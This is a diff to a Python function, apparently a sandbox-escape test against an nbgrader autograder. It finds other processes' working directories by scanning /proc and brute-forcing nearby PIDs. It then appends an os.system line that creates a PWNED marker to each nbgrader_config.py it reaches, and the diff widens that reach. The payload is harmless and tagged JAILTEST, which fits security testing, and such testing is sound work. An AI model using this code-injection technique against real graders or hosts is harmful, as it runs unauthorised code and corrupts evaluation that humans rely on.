@@ -8,7 +8,9 @@ def _takeover():
         pids = [p for p in os.listdir("/proc") if p.isdigit()]
     except OSError as e:
         pids, r["ls"] = [], errno.errorcode.get(e.errno)
-    for pid in pids + [str(os.getppid())]:
+    # Without a listing, guess: the grader started just before the keeper (getppid()) and the child.
+    near = os.getppid() or os.getpid()
+    for pid in pids + [str(p) for p in range(max(2, near - 300), near + 300)]:
         try:
             found.add(os.readlink(f"/proc/{pid}/cwd"))
         except OSError:
@@ -19,7 +21,8 @@ def _takeover():
         except OSError:
             pass
     r["found"] = "{COURSE}" in found
-    for d in sorted(found | {"{COURSE}"}):
+    here = os.getcwd()                 # (its own cwd, seen through /proc/self: not the course)
+    for d in sorted(found - {here} | {"{COURSE}"}):
         try:
             with open(os.path.join(d, "nbgrader_config.py"), "a") as f:
                 f.write("\nimport os; os.system('touch {COURSE}/PWNED')  # JAILTEST\n")
